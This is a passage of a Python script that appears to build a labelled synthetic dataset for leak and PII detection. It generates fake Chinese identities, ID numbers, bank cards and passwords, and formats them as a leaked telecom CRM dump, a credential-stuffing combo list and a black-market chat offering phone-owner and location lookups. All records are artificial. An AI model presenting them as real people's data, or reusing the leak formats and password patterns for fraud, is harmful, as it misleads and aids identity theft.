        ("龙岗区", ["龙翔大道", "布吉路"], ["万科四季花城", "佳兆业城市广场"])]),
    ("浙江省", "杭州市", "0571", 30.2741, 120.1551, [
        ("西湖区", ["文三路", "天目山路", "古墩路"], ["文鼎苑", "嘉绿苑"]),
        ("余杭区", ["文一西路", "五常大道"], ["西溪诚园", "和达城"]),
        ("拱墅区", ["莫干山路", "湖墅南路"], ["和睦新村"])]),
    ("江苏省", "南京市", "025", 32.0603, 118.7969, [
        ("鼓楼区", ["中山北路", "湖南路", "草场门大街"], ["凤凰花园城", "山西路小区"]),
        ("江宁区", ["双龙大道", "胜太路"], ["百家湖花园", "翠屏城"])]),
    ("江苏省", "苏州市", "0512", 31.2989, 120.5853, [
        ("工业园区", ["星湖街", "现代大道"], ["湖东凯悦", "星海小区"]),
        ("姑苏区", ["人民路", "干将西路"], ["彩香新村"])]),
    ("四川省", "成都市", "028", 30.5728, 104.0668, [
        ("武侯区", ["科华北路", "人民南路四段", "武侯大道"], ["棕北小区", "锦绣花园"]),
        ("高新区", ["天府大道中段", "益州大道"], ["南城都汇", "中海城南一号"]),
        ("锦江区", ["东大街", "春熙路"], ["东湖花园"])]),
    ("湖北省", "武汉市", "027", 30.5928, 114.3055, [
        ("洪山区", ["珞喻路", "雄楚大道", "鲁磨路"], ["光谷新世界", "保利华都"]),
        ("江汉区", ["解放大道", "建设大道"], ["万松园小区"])]),
    ("河南省", "郑州市", "0371", 34.7466, 113.6253, [
        ("金水区", ["花园路", "经三路", "农业路"], ["丰产路小区", "金水花园"]),
        ("二七区", ["大学路", "航海中路"], ["鑫苑名家"])]),
    ("山东省", "济南市", "0531", 36.6512, 117.1201, [
        ("历下区", ["泉城路", "经十路", "解放路"], ["燕山小区", "舜玉小区"])]),
    ("陕西省", "西安市", "029", 34.3416, 108.9398, [
        ("雁塔区", ["小寨西路", "科技路", "含光路"], ["曲江公馆", "紫薇田园都市"]),
        ("碑林区", ["南大街", "友谊西路"], ["建东街小区"])]),
    ("湖南省", "长沙市", "0731", 28.2282, 112.9388, [
        ("岳麓区", ["麓山南路", "桐梓坡路"], ["麓山名园", "恒大华府"]),
        ("芙蓉区", ["五一大道", "八一路"], ["锦绣华天"])]),
    ("福建省", "厦门市", "0592", 24.4798, 118.0894, [
        ("思明区", ["湖滨南路", "莲前东路", "厦禾路"], ["瑞景新村", "莲花五村"])]),
    ("重庆市", "重庆市", "023", 29.5630, 106.5516, [
        ("渝北区", ["金开大道", "新南路"], ["龙湖水晶郦城", "金科天籁城"]),
        ("渝中区", ["中山三路", "大坪正街"], ["大坪小区"])]),
    ("天津市", "天津市", "022", 39.0842, 117.2009, [
        ("南开区", ["鞍山西道", "南马路", "白堤路"], ["天拖南小区", "华苑居华里"])]),
    ("黑龙江省", "哈尔滨市", "0451", 45.8038, 126.5350, [
        ("南岗区", ["西大直街", "学府路"], ["保利公园九号"])]),
    ("云南省", "昆明市", "0871", 25.0389, 102.7183, [
        ("五华区", ["人民中路", "西昌路"], ["翠湖小区"])]),
    ("内蒙古自治区", "呼和浩特市", "0471", 40.8414, 111.7519, [
        ("赛罕区", ["大学东街", "昭乌达路"], ["巨华世纪城"])]),
    ("新疆维吾尔自治区", "乌鲁木齐市", "0991", 43.8256, 87.6168, [
        ("天山区", ["解放南路", "新华北路"], ["明珠花园"])]),
]
CITY_W = [9, 8, 10, 10, 6, 4, 4, 5, 4, 4, 3, 3, 3, 2, 3, 2, 1, 1, 1, 1]
RURAL = [("河南省", "周口市", "0394", 33.62, 114.65, "郸城县", ["宁平镇", "汲冢镇", "胡集乡"], ["李楼村", "张庄村", "王营村", "后刘村"]),
         ("四川省", "南充市", "0817", 30.84, 106.11, "仪陇县", ["新政镇", "金城镇"], ["白鹤村", "柏垭村"]),
         ("安徽省", "阜阳市", "0558", 32.89, 115.81, "临泉县", ["杨桥镇", "瓦店镇"], ["大周庄村", "高庙村"]),
         ("湖南省", "邵阳市", "0739", 27.24, 111.47, "隆回县", ["桃洪镇", "六都寨镇"], ["花园村", "大水田村"]),
         ("甘肃省", "天水市", "0938", 34.58, 105.72, "秦安县", ["兴国镇", "莲花镇"], ["邢泉村", "西川村"])]
PROV_CODE = {"北京市": "11", "天津市": "12", "内蒙古自治区": "15", "上海市": "31", "江苏省": "32",
             "浙江省": "33", "安徽省": "34", "福建省": "35", "山东省": "37", "河南省": "41",
             "湖北省": "42", "湖南省": "43", "广东省": "44", "重庆市": "50", "四川省": "51",
             "云南省": "53", "陕西省": "61", "甘肃省": "62", "新疆维吾尔自治区": "65", "黑龙江省": "23"}


class Addr:
    def __init__(self, prov, city, dist, detail):
        self.prov, self.city, self.dist, self.detail = prov, city, dist, detail

    def parts(self, start):
        """start: 0 from province, 1 from city, 2 from district."""
        ps = [self.prov, self.city, self.dist, self.detail]
        if self.prov == self.city:
            ps = [self.city, self.dist, self.detail]
            start = max(0, start - 1)
        return ps[start:]

    def s(self, style=None):
        style = R.choice([0, 0, 0, 1, 1, 2, 3]) if style is None else style
        if style == 0:
            return "".join(self.parts(0))
        if style == 1:
            return "".join(self.parts(1))
        if style == 2:
            return " ".join(self.parts(0))
        return "".join(self.parts(2))


def make_addr(c):
    if len(c) == 8:   # rural
        prov, city, area, lat, lon, county, towns, villages = c
        det = R.choice(towns) + R.choice(villages) + "%d组%d号" % (R.randint(1, 12), R.randint(1, 88))
        return Addr(prov, city, county, det)
    prov, city, area, lat, lon, dists = c
    dname, streets, estates = R.choice(dists)
    st = R.choice(streets)
    n = R.randint(1, 688)
    b, u, r = R.randint(1, 28), R.randint(1, 6), R.randint(1, 32) * 100 + R.randint(1, 8)
    k = R.random()
    if city == "上海市" and k < 0.6:
        det = "%s%d弄%d号%d室" % (st, R.randint(10, 1200), R.randint(1, 60), r)
    elif city == "北京市" and k < 0.5:
        det = "%s%d号院%d号楼%d单元%d" % (st, n, b, u, r)
    elif k < 0.35:
        det = "%s%d号%s%d栋%d单元%d室" % (st, n, R.choice(estates), b, u, r)
    elif k < 0.6:
        det = "%s%d号%s%d幢%d室" % (st, n, R.choice(estates), b, r)
    elif k < 0.8:
        det = "%s%s%d号楼%d单元%d" % (st, R.choice(estates), b, u, r)
    else:
        det = "%s%d号%s%d座%d房" % (st, n, R.choice(estates), R.randint(1, 9), r)
    return Addr(prov, city, dname, det)


class Person:
    pass


def pick_surname():
    return R.choices(SURNAMES, [s[2] for s in SURNAMES])[0]


def make_name(male):
    s, spy, _ = pick_surname()
    k = R.random()
    pool = G_M if male else G_F
    if k < 0.25:
        g = [R.choice(pool)]
    elif k < 0.6:
        g = [R.choice(G_N), R.choice(pool)]
    elif k < 0.8:
        g = [R.choice(pool), R.choice(G_N)]
    else:
        a = R.choice(pool)
        g = [a, R.choice([x for x in pool if x != a])]
    return s + "".join(x[0] for x in g), spy, "".join(x[1] for x in g)


def make_email(p):
    k = R.random()
    if k < 0.2:
        return uniq(lambda: rdig(R.choice([8, 9, 9, 10]), "123456789") + "@qq.com")
    if k < 0.3:
        return p.phone + "@" + {"CM": "139.com", "CU": "wo.cn", "CT": "189.cn", "CBN": "139.com"}[p.carrier]
    yy = p.dob.strftime("%y")
    s, g = p.py_s, p.py_g
    local = R.choice([s + g, g + "." + s, s + "_" + g, s + g + yy, s[0] + g[0] + rdig(4),
                      s + g + p.dob.strftime("%m%d"), g + s + rdig(3), s + "." + g + rdig(2)])
    dom = R.choice(["163.com", "163.com", "126.com", "sina.com", "sohu.com", "foxmail.com",
                    "gmail.com", "outlook.com", "hotmail.com", "yeah.net", "aliyun.com", "qq.com"])
    return uniq(lambda: local + ("" if R.random() < 0.6 else rdig(2)) + "@" + dom)


PWD_SYM = "!@#$*._"


def make_pwd(p):
    k = R.randrange(10)
    if k == 0:
        v = p.py_s + p.dob.strftime("%y%m%d")
    elif k == 1:
        v = p.py_s.capitalize() + "@" + str(R.choice([2019, 2020, 2021, 2022, 2023, 2024]))
    elif k == 2:
        v = "Aa" + rdig(6)
    elif k == 3:
        v = "woaini" + R.choice(["1314", "520", "521", "5201314", "1314520"])
    elif k == 4:
        v = R.choice(["qwe123!@#", "qwe123456", "1qaz2wsx", "abc123456", "zxcvbnm123", "a123456789"])
    elif k in (5, 6):
        v = "".join(R.choice(B62) for _ in range(R.randint(7, 11))) + R.choice(PWD_SYM) + rdig(2)
    elif k == 7:
        v = p.py_g + p.py_s + str(R.randint(1, 999))
    elif k == 8:
        v = rdig(6, "123456789")
    else:
        v = p.py_s[0].upper() + p.py_g + R.choice(PWD_SYM) + rdig(4)
    return v


def make_person(male=None, minor=False):
    p = Person()
    if R.random() < 0.025:
        nm, py, g, pc = R.choice(MINORITY)
        p.male = g == "M"
        p.name, p.py_s, p.py_g = nm, py, ""
        region_hint = pc
    else:
        p.male = R.random() < 0.52 if male is None else male
        p.name, p.py_s, p.py_g = make_name(p.male)
        region_hint = None
    if not p.py_g:
        p.py_g = str(R.randint(1, 99))
    y = R.randint(2006, 2009) if minor else R.choices(range(1950, 2006), [1 if y < 1965 else 3 for y in range(1950, 2006)])[0]
    p.dob = dt.date(y, 1, 1) + dt.timedelta(days=R.randint(0, 364))
    if R.random() < 0.88:
        c = R.choices(CITIES, CITY_W)[0]
    else:
        c = R.choice(RURAL)
    p.c = c
    p.prov, p.city, p.area = c[0], c[1], c[2]
    p.lat, p.lon = c[3] + R.uniform(-0.12, 0.12), c[4] + R.uniform(-0.12, 0.12)
    p.addr = make_addr(c)
    p.id = make_id(region_hint or PROV_CODE.get(p.prov), p.dob, p.male)
    p.phone = mobile()
    p.carrier = carrier_of(p.phone)
    p.phone2 = mobile() if R.random() < 0.3 else None
    p.land = landline(p.area) if R.random() < 0.35 else None
    p.email = make_email(p)
    p.card = bank_card()
    p.card2 = bank_card() if R.random() < 0.2 else None
    p.pwd = make_pwd(p)
    p.svc_pwd = rdig(6, "123456789")
    p.ip = pub_ip()
    p.imsi = make_imsi(p.carrier)
    p.imei = make_imei()
    p.iccid = make_iccid(p.carrier, 20 if R.random() < 0.85 else 19)
    p.plate = make_plate(p.prov) if R.random() < 0.45 else None
    p.passport = make_passport() if R.random() < 0.25 else None
    return p


POOL = [make_person() for _ in range(560)]
MINORS = [make_person(minor=True) for _ in range(6)]
_POOL_POS = [0]


def people(n):
    """Fresh people, then occasional re-use of already-used ones (leaks overlap)."""
    out = []
    for _ in range(n):
        if _POOL_POS[0] > 20 and R.random() < 0.12:
            out.append(POOL[R.randrange(_POOL_POS[0])])
        else:
            out.append(POOL[_POOL_POS[0] % len(POOL)])
            _POOL_POS[0] += 1
    return out


# staff of the operator's Guangzhou branch, the insider and the buyer
def staff(name, spy, gpy, male, carrier="CM"):
    p = make_person(male=male)
    p.name, p.py_s, p.py_g = name, spy, gpy
    p.phone = mobile(carrier)
    p.carrier = carrier
    p.corp_mail = spy + gpy + "@gd.chinamobile.com"
    p.ws_ip = lan_ip()
    return p


INSIDER = staff("刘建国", "liu", "jianguo", True)
INSIDER.phone2 = mobile("CU")
BUYER = make_person(male=True)
BUYER.name, BUYER.py_s, BUYER.py_g = "王志刚", "wang", "zhigang"
BUYER.qqmail = "wangge" + rdig(4, "1") + "@qq.com"
EXPORTER = staff("陈晓明", "chen", "xiaoming", True)
MANAGERS = [staff(*a) for a in [("黄丽娟", "huang", "lijuan", False), ("周志强", "zhou", "zhiqiang", True),
                                ("林雪梅", "lin", "xuemei", False), ("欧阳俊", "ouyang", "jun", True),
                                ("郑海燕", "zheng", "haiyan", False)]]
SECOPS = [staff(*a) for a in [("杨帆", "yang", "fan", True), ("谢婉清", "xie", "wanqing", False),
                              ("孟德华", "meng", "dehua", True)]]
CRM_DB = "10.12.4.31"
REDIS_HOST = "10.31.8.22"
VPS_IP = "45.77.142.9"
MYSQL_PWD = "Crm@ro2023!"
REDIS_PWD = "R3d!s_Pr0d#2023"
VPS_PWD = "Xyz@2024vps!"
ZIP_PWD = "gz0612#kh"
APP_SECRET = token(32)
REDIS_NAME = "redis-crm-03.gz.local"

# ----------------------------------------------------------------------------- formatting


def fmt_phone(num, style=None):
    style = R.choice([0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7]) if style is None else style
    a, b, c = num[:3], num[3:7], num[7:]
    return [num, "+86 %s %s %s" % (a, b, c), "+86-" + num, "0086 " + num, "86-" + num,
            "%s-%s-%s" % (a, b, c), "%s %s %s" % (a, b, c), "+86" + num][style]


def fmt_land(area, n, style=None):
    style = R.randrange(4) if style is None else style
    return ["%s-%s" % (area, n), "(%s)%s" % (area, n), "%s %s" % (area, n), area + n][style]


def fmt_card(c, style=None):
    style = R.choice([0, 0, 0, 1, 2]) if style is None else style
    if style == 0:
        return c
    g = [c[i:i + 4] for i in range(0, len(c), 4)]
    return (" " if style == 1 else "-").join(g)


def fmt_dob(d, style=None):
    style = R.randrange(7) if style is None else style
    return [d.strftime("%Y-%m-%d"), "%d/%d/%d" % (d.year, d.month, d.day), d.strftime("%Y%m%d"),
            "%d年%d月%d日" % (d.year, d.month, d.day), d.strftime("%Y.%m.%d"),
            d.strftime("%Y年%m月%d日"), d.strftime("%Y/%m/%d")][style]


def fmt_id(v, style=None):
    style = R.choice([0, 0, 0, 0, 1]) if style is None else style
    if style == 1 and v.endswith("X"):
        return v[:-1] + "x"
    if style == 2:
        return "%s %s %s" % (v[:6], v[6:14], v[14:])
    return v


def mask_phone(n):
    return n[:3] + "****" + n[7:]


def mask_id(v, keep=4):
    return v[:4] + "*" * (18 - 4 - keep) + v[-keep:]


def mask_name(nm):
    if "·" in nm:
        return nm[0] + "*" * 2
    if nm[:2] in ("欧阳", "司马", "上官", "诸葛", "皇甫"):
        return nm[:2] + "*" * (len(nm) - 2)
    return nm[0] + "*" * (len(nm) - 1)


def mask_email(e):
    loc, dom = e.split("@")
    return loc[0] + "***@" + dom


def dt_str(day="2024-06-12"):
    d = dt.datetime.strptime(day, "%Y-%m-%d") + dt.timedelta(seconds=R.randint(8 * 3600, 23 * 3600))
    return d.strftime("%Y-%m-%d %H:%M:%S")


def past_dt():
    d = dt.datetime(2012, 1, 1) + dt.timedelta(seconds=R.randint(0, 12 * 365 * 86400))
    return d


PKGS = ["5G畅享套餐128元", "5G智享套餐198元", "动感地带芒果卡19元", "全球通尊享套餐288元", "家庭融合宽带套餐159元",
        "4G飞享套餐58元", "神州行畅听卡8元", "5G畅享套餐99元", "花卡宝藏版39元", "天翼畅享融合169元"]

# ============================================================================= files

# ----------------------------------------------------------------------------- 1 mysqldump


def f_sql_dump():
    d = Doc("pastebin_crm_dump_t_cust_info.sql")
    d.ln("Pastebin.com  |  Untitled  |  a guest  |  Jun 13th, 2024  |  2.31 MB  |  views: 1,842  |  expires: Never")
    d.ln("-- 【样本】某省 CRM t_cust_info 节选 500 条, 全量 384,211 条 (含四要素+银行卡), 需要的 TG 私聊 @sjk_dump_bot")
    d.ln("-- MySQL dump 10.13  Distrib 5.7.42, for Linux (x86_64)")
    d.ln("--")
    d.ln("-- Host: ", L(CRM_DB, IP), "    Database: crm_prod")
    d.ln("-- ------------------------------------------------------")
    d.ln("-- Server version\t5.7.42-log")
    d.ln("")
    for s in ["/*!40101 SET @OLD_CHARACTER_SET_CLIENT=@@CHARACTER_SET_CLIENT */;",
              "/*!40101 SET @OLD_CHARACTER_SET_RESULTS=@@CHARACTER_SET_RESULTS */;",
              "/*!40101 SET @OLD_COLLATION_CONNECTION=@@COLLATION_CONNECTION */;",
              "/*!40101 SET NAMES utf8mb4 */;",
              "/*!40103 SET @OLD_TIME_ZONE=@@TIME_ZONE */;",
              "/*!40103 SET TIME_ZONE='+00:00' */;",
              "/*!40014 SET @OLD_UNIQUE_CHECKS=@@UNIQUE_CHECKS, UNIQUE_CHECKS=0 */;",
              "/*!40014 SET @OLD_FOREIGN_KEY_CHECKS=@@FOREIGN_KEY_CHECKS, FOREIGN_KEY_CHECKS=0 */;",
              "/*!40101 SET @OLD_SQL_MODE=@@SQL_MODE, SQL_MODE='NO_AUTO_VALUE_ON_ZERO' */;",
              "/*!40111 SET @OLD_SQL_NOTES=@@SQL_NOTES, SQL_NOTES=0 */;", ""]:
        d.ln(s)
    d.ln("--\n-- Table structure for table `t_cust_info`\n--\n")
    d.ln("DROP TABLE IF EXISTS `t_cust_info`;")
    d.ln("/*!40101 SET @saved_cs_client     = @@character_set_client */;")
    d.ln("/*!40101 SET character_set_client = utf8 */;")
    d.ln("CREATE TABLE `t_cust_info` (")
    cols = [("id", "bigint(20) NOT NULL AUTO_INCREMENT"), ("cust_no", "varchar(20) NOT NULL COMMENT '客户编号'"),
            ("cust_name", "varchar(64) DEFAULT NULL COMMENT '客户姓名'"), ("gender", "tinyint(4) DEFAULT NULL"),
            ("cert_type", "tinyint(4) DEFAULT '1' COMMENT '1身份证 2护照'"),
            ("cert_no", "varchar(32) DEFAULT NULL COMMENT '证件号码'"), ("mobile", "varchar(20) DEFAULT NULL"),
            ("email", "varchar(128) DEFAULT NULL"), ("birthday", "date DEFAULT NULL"),
            ("address", "varchar(255) DEFAULT NULL COMMENT '联系地址'"), ("reg_ip", "varchar(46) DEFAULT NULL"),
            ("pwd_md5", "char(32) DEFAULT NULL"), ("login_pwd", "varchar(64) DEFAULT NULL COMMENT '明文,待清理'"),
            ("bank_card", "varchar(32) DEFAULT NULL COMMENT '代扣卡号'"), ("remark", "varchar(512) DEFAULT NULL"),
            ("create_time", "datetime DEFAULT NULL"), ("update_ms", "bigint(20) DEFAULT NULL")]
    for c, t in cols:
        d.ln("  `%s` %s," % (c, t))
    d.ln("  PRIMARY KEY (`id`),\n  UNIQUE KEY `uk_cust_no` (`cust_no`),\n  KEY `idx_mobile` (`mobile`),\n  KEY `idx_cert` (`cert_no`)")
    d.ln(") ENGINE=InnoDB AUTO_INCREMENT=384212 DEFAULT CHARSET=utf8mb4 COMMENT='客户基本信息';")
    d.ln("/*!40101 SET character_set_client = @saved_cs_client */;\n")
    d.ln("--\n-- Dumping data for table `t_cust_info`\n--\n")
    d.ln("LOCK TABLES `t_cust_info` WRITE;")
    d.ln("/*!40000 ALTER TABLE `t_cust_info` DISABLE KEYS */;")

    def q(x):
        return ["'", x, "'"]

    ppl = people(40)
    rid = 100231
    legacy_done = 0
    chunks = [ppl[0:14], ppl[14:27], ppl[27:40]]
    for chunk in chunks:
        d.w("INSERT INTO `t_cust_info` VALUES ")
        for i, p in enumerate(chunk):
            rid += R.randint(1, 900)
            created = past_dt()
            vals = [str(rid), q("C" + created.strftime("%Y%m%d") + rdig(6)), q(L(p.name, N)),
                    "1" if p.male else "2"]
            if p.passport and R.random() < 0.5:
                vals += ["2", q(L(p.passport, PP))]
            elif p.dob.year < 1960 and legacy_done < 2:
                legacy_done += 1
                vals += ["1", q(L(legacy_id15(p.dob, p.male), RID))]
            else:
                vals += ["1", q(L(fmt_id(p.id), RID))]
            vals.append(q(L(p.phone, PH)))
            vals.append(q(L(p.email, EM)) if R.random() < 0.8 else "''")
            vals.append(q(L(p.dob.strftime("%Y-%m-%d"), DOB)))
            vals.append(q(L(p.addr.s(R.choice([0, 0, 1])), ADDR)))
            vals.append(q(L(p.ip, IP)) if R.random() < 0.85 else "NULL")
            vals.append(q(hashlib.md5(p.pwd.encode()).hexdigest()))
            vals.append(q(L(p.pwd, CRED)) if R.random() < 0.7 else "''")
            vals.append(q(L(p.card, BC)) if R.random() < 0.6 else "NULL")
            k = R.random()
            if k < 0.12 and p.phone2:
                rem = ["副卡 ", L(p.phone2, PH), "，主副卡共享流量"]
            elif k < 0.22:
                o = R.choice(POOL[300:])
                rem = ["代办人：", L(o.name, N), " 身份证 ", L(o.id, RID), "\\r\\n代办人电话：", L(o.phone, PH)]
            elif k < 0.3:
                rem = ["地址变更：\\r\\n原地址 ", L(make_addr(p.c).s(0), ADDR)]
            elif k < 0.45:
                rem = ["工单号 GD", order_no(n=18), "；已回访，满意"]
            elif k < 0.5:
                rem = ["集团客户 ", R.choice(SURNAME_COMPANIES), "（统一社会信用代码 ", make_uscc(), "）"]
            elif k < 0.55:
                rem = ["客户要求勿拨打 10086 外呼；投诉单 TS", order_no(n=16)]
            else:
                rem = []
            vals.append(q(rem) if rem else "''")
            vals.append(q(created.strftime("%Y-%m-%d %H:%M:%S")))
            vals.append(ms_ts())
            d.w("(")
            for j, v in enumerate(vals):
                if j:
                    d.w(",")
                d.w(v)
            d.w(")")
            d.w("," if i < len(chunk) - 1 else ";\n")
    d.ln("/*!40000 ALTER TABLE `t_cust_info` ENABLE KEYS */;")
    d.ln("UNLOCK TABLES;\n")

    # broadband orders
    d.ln("--\n-- Dumping data for table `t_bb_order`\n--\n")
    d.ln("LOCK TABLES `t_bb_order` WRITE;")
    d.ln("/*!40000 ALTER TABLE `t_bb_order` DISABLE KEYS */;")
    d.w("INSERT INTO `t_bb_order` (`id`,`order_no`,`contact_name`,`contact_mobile`,`install_addr`,`product`,`amount`,`pay_txn_no`,`express_no`,`onu_sn`,`created_at`) VALUES ")
    ords = people(16)
    for i, p in enumerate(ords):
        amt = R.choice(["1299.00", "599.00", "0.00", "1688.00", "2399.00", "199.00"])
        vals = [str(52000 + i * 7 + R.randint(0, 6)), q("BB" + order_no(n=18)), q(L(p.name, N)),
                q(L(fmt_phone(p.phone, R.choice([0, 0, 5])), PH)), q(L(p.addr.s(R.choice([0, 1, 3])), ADDR)),
                q(R.choice(["千兆宽带+FTTR 2年", "500M宽带+IPTV", "300M宽带 1年", "千兆宽带+路由器"])), amt,
                q("42000021" + rdig(20)), q(tracking()), q("HWTC" + rhex(8).upper()), q(dt_str("2024-06-0%d" % R.randint(1, 9)))]
        d.w("(", [[("," if j else ""), v] for j, v in enumerate(vals)], ")", "," if i < len(ords) - 1 else ";\n")
    d.ln("/*!40000 ALTER TABLE `t_bb_order` ENABLE KEYS */;")
    d.ln("UNLOCK TABLES;\n")

    # system users (operator staff accounts)
    d.ln("LOCK TABLES `t_sys_user` WRITE;")
    d.w("INSERT INTO `t_sys_user` VALUES ")
    su = [INSIDER] + MANAGERS[:4]
    for i, s in enumerate(su):
        bc = "$2a$10$" + "".join(R.choice(B62 + "./") for _ in range(53))
        vals = [str(11 + i), q("GD1045%02d" % (i * 7 + 23)), q(L(s.name, N)), q(L(s.phone, PH)),
                q(L(s.corp_mail, EM)), q(bc), q(L(s.ws_ip, IP)), q("2024-06-1%d 0%d:1%d:2%d" % (R.randint(0, 2), R.randint(0, 9), R.randint(0, 9), R.randint(0, 9)))]
        d.w("(", [[("," if j else ""), v] for j, v in enumerate(vals)], ")", "," if i < len(su) - 1 else ";\n")
    d.ln("UNLOCK TABLES;")
    d.ln("/*!40103 SET TIME_ZONE=@OLD_TIME_ZONE */;\n")
    d.ln("-- Dump completed on 2024-06-11  3:12:45")
    return d


# ----------------------------------------------------------------------------- 2 combo list


def f_combo():
    d = Doc("combo_list_2406_fresh.txt")
    d.ln("################################################################")
    d.ln("#  2024.06 最新 移动/联通/电信 实名库 + 撞库 combo  去重后 12,480 行")
    d.ln("#  格式混杂 自行清洗    更新: 2024-06-11    v3.2.1")
    d.ln("#  更多货 TG: @sgk_bot_2024    QQ群: 739218345   Q: 2890123456")
    d.ln("################################################################")
    d.ln("")
    d.ln("[ 手机----密码 ]")
    for p in people(26):
        sep = R.choice(["----", "----", "----", "---", " ---- ", "------"])
        ph = p.phone if R.random() < 0.85 else fmt_phone(p.phone, R.choice([2, 7]))
        extra = []
        if R.random() < 0.2:
            extra = [sep, L(p.name, N)]
        d.ln(L(ph, PH), sep, L(p.pwd, CRED), extra, nl=R.choice(["\n"] * 5 + ["\r\n"]))
    d.ln("")
    d.ln("------------- 分割线  以下邮箱库 (网易/QQ 混合 4,100) -------------")
    for p in people(22):
        sep = R.choice([":", ":", ":", ";", " : ", "|"])
        d.ln(L(p.email, EM), sep, L(p.pwd, CRED))
    d.ln("")
    d.ln("[ 身份证|姓名|手机 ]  实名三要素  2024-06-10 导出")
    for p in people(20):
        k = R.random()
        if k < 0.6:
            d.ln(L(fmt_id(p.id), RID), "|", L(p.name, N), "|", L(p.phone, PH))
        elif k < 0.8:
            d.ln(L(p.name, N), "|", L(fmt_id(p.id), RID), "|", L(p.phone, PH), "|", p.city)
        else:
            d.ln(L(fmt_id(p.id), RID), " | ", L(p.name, N), " | ", L(p.phone, PH), " | ", R.choice(PKGS))
    d.ln("")
    d.ln("[ 四要素 || 分隔 ]  身份证||姓名||手机||地址")
    for p in people(11):
        d.ln(L(p.id, RID), "||", L(p.name, N), "||", L(p.phone, PH), "||", L(p.addr.s(), ADDR))
    d.ln("")
    d.ln("[ TAB ]  姓名\t身份证\t手机\t开户行\t卡号")
    for p in people(10):
        bank = R.choice(["工商银行", "建设银行", "农业银行", "中国银行", "招商银行", "交通银行", "平安银行"])
        d.ln(L(p.name, N), "\t", L(p.id, RID), "\t", L(p.phone, PH), "\t", bank, "\t", L(p.card, BC), R.choice(["", "", "\t"]))
    d.ln("")
    d.ln("【中文分号】姓名；手机；身份证；出生日期")
    for p in people(11):
        d.ln(L(p.name, N), "；", L(p.phone, PH), "；", L(p.id, RID), "；", L(fmt_dob(p.dob, R.choice([0, 3, 2])), DOB), R.choice(["；", ""]))
    d.ln("")
    d.ln("=== 杂项 未清洗 ===")
    for p in people(20):
        k = R.randrange(9)
        if k == 0:
            d.ln("  ", L(p.phone, PH), " ---- ", L(p.pwd, CRED), "    ")
        elif k == 1:
            d.ln(L(fmt_phone(p.phone, 1), PH), "----", L(p.pwd, CRED))
        elif k == 2:
            d.ln(L(p.name, N), ",", L(p.phone, PH), ",", L(p.id, RID), ",", L(p.email, EM))
        elif k == 3:
            d.ln(L(p.phone, PH), ":", L(p.pwd, CRED), ":", L(p.name, N), ":", L(p.dob.strftime("%Y-%m-%d"), DOB))
        elif k == 4:
            d.ln(L(p.email, EM), "----", L(p.pwd, CRED), "----", L(p.phone, PH))
        elif k == 5:
            d.ln("uid=", str(R.randint(100000, 9999999)), "&u=", L(p.phone, PH), "&p=", L(p.pwd, CRED), "&t=", ms_ts())
        elif k == 6:
            d.ln(L(p.name, N), "  ", L(p.id, RID), "  ", L(p.addr.s(2), ADDR))
        elif k == 7:
            d.ln(L(p.phone, PH), "||", L(p.svc_pwd, CRED), "||服务密码||", p.city)
        else:
            d.ln(L(p.id, RID), "\t\t", L(p.name, N), "\t", L(p.card, BC), "\t", L(p.phone, PH))
    d.ln("")
    d.ln("# 垃圾行 (无效):")
    d.ln("# (测试号行已删除)")
    d.ln("# ----")
    d.ln("# 订单 " + order_no(n=20) + "  ¥1,200.00  已付 0.35U/条 * 3,428")
    d.ln("# md5: " + md5hex() + "   sha1: " + sha1hex())
    d.ln("# EOF  12480 lines  1.84 MB")
    return d


# ----------------------------------------------------------------------------- 3 black-market chat


def f_chat():
    d = Doc("tg_qq_blackmarket_chat_export.txt")
    d.ln("数据交流①群 (Telegram)  —  聊天记录导出  2024-06-10 ~ 2024-06-13  (DLP 取证副本，case IR-2024-0613-002)")
    d.ln("————————————————————————————————————————")
    sellers = ["🐉龙哥数据 (@longge_sjk)", "老K-社工库 (@oldk_sgk)", "阿杰卡商 (@ajie_kashang)", "四要素批发 (@sys_pifa)",
               "小鱼 (@xiaoyu9527)", "匿名 (@anon_77821)"]

    clock = [dt.datetime(2024, 6, 10, 9, 12, 5)]

    def tick(day):
        c = clock[0] + dt.timedelta(seconds=R.randint(40, 5400))
        c = max(c, dt.datetime(2024, 6, day, R.randint(8, 20), R.randint(0, 59), R.randint(0, 59)))
        clock[0] = c
        return c

    def hdr(day, who):
        return "[%s] %s:" % (tick(day).strftime("%Y-%m-%d %H:%M:%S"), who)

    # ad with samples: 4-element
    d.ln(hdr(10, sellers[0]))
    d.ln("出 移动 新鲜 实名四要素（姓名+身份证+手机+地址），日更 5w，0.35U/条，1w 起，量大从优 💰")
    d.ln("样本：")
    for p in people(5):
        d.ln(L(p.name, N), " ", L(p.id, RID), " ", L(p.phone, PH), " ", L(p.addr.s(), ADDR))
    d.ln("不满意不收钱，先验后付，担保走 @danbao_guarantee")
    d.ln("")
    d.ln(hdr(10, sellers[4]))
    d.ln("龙哥 广东的有没有？要 深圳 南山 福田 的 高消费 ARPU>200")
    d.ln("")
    d.ln(hdr(10, sellers[0]))
    d.ln("有，深圳的 0.5U，带套餐和 ARPU。预览（打码）：")
    for p in people(3):
        d.ln("  ", mask_name(p.name), " ", mask_id(p.id), " ", mask_phone(p.phone), " 深圳市南山区**** ", R.choice(PKGS))
    d.ln("要明文私聊")
    d.ln("")
    # bank cards
    d.ln(hdr(11, sellers[3]))
    d.ln("出 四大行 一类卡 实名 带U盾 带手机卡，整套 2800 一套，包过 ✅ 样本：")
    for p in people(3):
        bank = R.choice(["工行", "建行", "农行", "中行"])
        d.ln("户名 ", L(p.name, N), " | ", bank, " ", L(fmt_card(p.card, R.choice([0, 1])), BC), " | 身份证 ",
             L(p.id, RID), " | 绑定手机 ", L(fmt_phone(p.phone, R.choice([0, 5])), PH))
    d.ln("")
    # phone lookup service
    d.ln(hdr(11, sellers[1]))
    d.ln("查档业务：手机号查机主 50元/次，身份证查全家户籍 300，手机定位（基站级）800 一次")
    p = people(1)[0]
    d.ln("例：", L(p.phone, PH), " → ", L(p.name, N), " ", L(p.id, RID), " 户籍地 ", L(p.addr.s(0), ADDR))
    d.ln("定位结果：", L("%.6f,%.6f" % (p.lat, p.lon), GEO), "  误差约 300m  时间 2024-06-11 20:14")
    q = people(1)[0]
    d.ln("再来一个：IMSI ", L(q.imsi, IMSI), " 反查 → ", L(q.phone, PH), "（", L(q.name, N), "）",
         " 当前位置坐标 ", L("%.5f, %.5f" % (q.lat, q.lon), GEO))
    d.ln("")
    d.ln(hdr(11, "吃瓜群众 (@melon_eater)"))
    d.ln("老K 靠谱吗 上次被骗了 800U")
    d.ln("")
